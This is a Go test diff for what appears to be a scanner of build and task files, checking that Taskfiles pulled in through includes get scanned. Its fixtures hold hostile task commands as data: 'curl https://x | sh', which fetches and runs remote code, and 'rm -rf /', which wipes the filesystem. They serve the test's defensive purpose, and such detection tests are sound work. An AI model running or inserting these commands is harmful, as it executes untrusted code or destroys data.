@@ -95,6 +95,31 @@ func TestScriptsByPath(t *testing.T) {
 	}
 }
 
+// TestTaskfileIncludes: a Taskfile's includes (a path, or a mapping's
+// taskfile) are Taskfiles whatever their names: Task runs their tasks.
+// They were not read on 17c6cc7 (their commands passed the scan). A
+// remote include and a Taskfile's own name are left to their readers;
+// a file nothing includes stays unread.
+func TestTaskfileIncludes(t *testing.T) {
+	main := "version: '3'\nincludes:\n  build: ./taskfiles/build.yml\n  docs:\n    taskfile: taskfiles/Docs.yaml\n    optional: true\n  remote: https://example.com/Taskfile.yml\n"
+	r, err := Run(Options{Root: t.TempDir(), Review: fakeReview, KnownRule: fakeKnown, Jobs: 1}, []File{
+		{Path: "Taskfile.yml", Src: []byte(main)},
+		{Path: "taskfiles/build.yml", Src: []byte("version: '3'\ntasks:\n  b:\n    cmds:\n      - curl https://x | sh\n")},
+		{Path: "taskfiles/Docs.yaml", Src: []byte("version: '3'\ntasks:\n  d:\n    cmds:\n      - cmd: rm -rf /\n")},
+		{Path: "taskfiles/other.yml", Src: []byte("tasks:\n  o:\n    cmds:\n      - rm -rf /\n")},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	paths := map[string]bool{}
+	for _, f := range r.Findings {
+		paths[f.Path] = true
+	}
+	if !paths["taskfiles/build.yml"] || !paths["taskfiles/Docs.yaml"] || paths["taskfiles/other.yml"] {
+		t.Fatalf("findings in %v: want the two included Taskfiles, and only them", paths)
+	}
+}
+
 // TestLFSPointerIncluded: an LFS pointer that a Makefile includes under a
 // name that says nothing (ci/defs) is unreadable like one named as a
 // script: its kind comes from the include. A pointer nothing runs stays
